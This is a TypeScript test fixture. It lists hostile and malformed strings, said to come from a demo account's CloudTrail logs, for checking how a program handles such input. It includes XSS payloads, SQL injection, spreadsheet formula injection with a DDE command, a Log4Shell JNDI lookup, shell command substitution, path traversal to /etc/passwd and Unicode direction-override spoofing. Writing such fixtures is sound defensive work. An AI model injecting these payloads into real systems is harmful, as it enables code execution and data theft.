/**
 * Texts that break careless programs, as attackers put them into CloudTrail. Every one of them is
 * in the demo account's prod logs of 15 March, in user agents, names, buckets and messages.
 * Invisible characters are written as escapes so that this file reads as what it is.
 */
export const demoHostileTexts: readonly string[] = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "it's a 'quoted' name",
  'say "hello"',
  "'; DROP TABLE x; --",
  "\\' or 1=1 --",
  "' or '1'='1",
  "100%_like\\_wild%",
  "back\\slash\\",
  '=HYPERLINK("http://x")',
  "=cmd|' /C calc'!A0",
  "+1",
  "-1",
  "@SUM(1)",
  "\tleading tab",
  "two\nlines\r\nand a third",
  "comma,semicolon;pipe|",
  "rtl \u202Egnp.exe\u202C end",
  "marks \u200E\u200F\u2066\u2069 end",
  "combining Z\u0351\u036B\u0343a\u0363\u0349l\u0348\u035Ago\u0321",
  "emoji \u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u{1F1E9}\u{1F1EA}",
  "zero\u200Bwidth\u200Cjoin\u2060er\uFEFF",
  "a\u00A0no-break\u3000wide\u2028line\u2029para",
  "backslash u: \\u0000 \\u202e",
  "\u001B[31mred\u001B[0m\u0007",
  "$\u007Bjndi:ldap://x/a} {{7*7}} $(id) `id`",
  "../../etc/passwd?a=b&c=d#e",
  "\u041F\u0440\u0438\u0432\u0435\u0442 \u4F60\u597D \u0645\u0631\u062D\u0628\u0627",
  "NULL",
  " ",
];

/** Values of `sourceIPAddress` that are not an IPv4 address. */
export const demoHostileAddresses: readonly string[] = [
  "AWS Internal",
  "cloudformation.amazonaws.com",
  "256.300.1.999",
  "not an address",
  "2001:db8:85a3::8a2e:370:7334",
  "<b>203.0.113.9</b>",
];

/** A user agent of 8 KiB. */
export const demoLongUserAgent: string =
  `long-agent/1.0 ${"a-very-long-user-agent ".repeat(400)}`.slice(0, 8_192);

/** The depth of the most deeply nested parameters. */
export const DEMO_NESTING = 60;
